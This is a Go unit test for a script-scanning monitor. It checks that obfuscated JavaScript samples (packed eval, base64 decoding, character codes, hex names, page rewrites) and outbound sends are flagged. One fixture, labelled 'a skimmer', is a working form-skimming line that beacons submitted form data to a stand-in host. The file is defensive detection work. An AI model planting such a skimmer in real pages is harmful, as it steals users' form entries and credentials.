package chrome

import (
	"slices"
	"strings"
	"testing"

	"canhcong/monitor"
)

func TestDescribeScript(t *testing.T) {
	long := strings.Repeat("QUJD", 60)
	for _, c := range []struct {
		name, body string
		marks      []string
		hosts      []string
	}{
		{"a menu", `document.getElementById("menu").classList.toggle("open")`, nil, nil},
		{"packed", `eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'var|x'.split('|')))`, []string{monitor.ScriptPacked}, nil},
		{"run from base64", `eval ( atob("YWxlcnQoMSk=") )`, []string{monitor.ScriptDecodes}, nil},
		{"a long literal", `var s=atob("` + long + `")`, []string{monitor.ScriptDecodes}, nil},
		{"a short literal", `var s=atob("QUJD")`, nil, nil},
		{"character codes", `x(String.fromCharCode(` + strings.Repeat("118,", 40) + `59))`, []string{monitor.ScriptCharCodes}, nil},
		{"a few character codes", `x(String.fromCharCode(13,10))`, nil, nil},
		{"names in hexadecimal", `var a=["` + strings.Repeat(`\x68`, 30) + `"]`, []string{monitor.ScriptHexNames}, nil},
		{"another page", `document.documentElement.innerHTML = "<h1>x</h1>"`, []string{monitor.ScriptRewrites}, nil},
		{"far down", strings.Repeat("var a = 1;\n", 5000) + `eval(atob("eA=="))`, []string{monitor.ScriptDecodes}, nil},
		{"a skimmer", `addEventListener("submit",e=>navigator.sendBeacon("https://Thu-Thap.example/p", new FormData(e.target)))`,
			[]string{monitor.ScriptSends}, []string{"thu-thap.example"}},
		{"a name space", `document.createElementNS("http://www.w3.org/2000/svg","svg")`, nil, []string{"www.w3.org"}},
	} {
		var s monitor.Script
		describe(&s, c.body)
		if !slices.Equal(s.Marks, c.marks) || !slices.Equal(s.Hosts, c.hosts) {
			t.Errorf("%s: have %q, %q, want %q, %q", c.name, s.Marks, s.Hosts, c.marks, c.hosts)
		}
	}
}
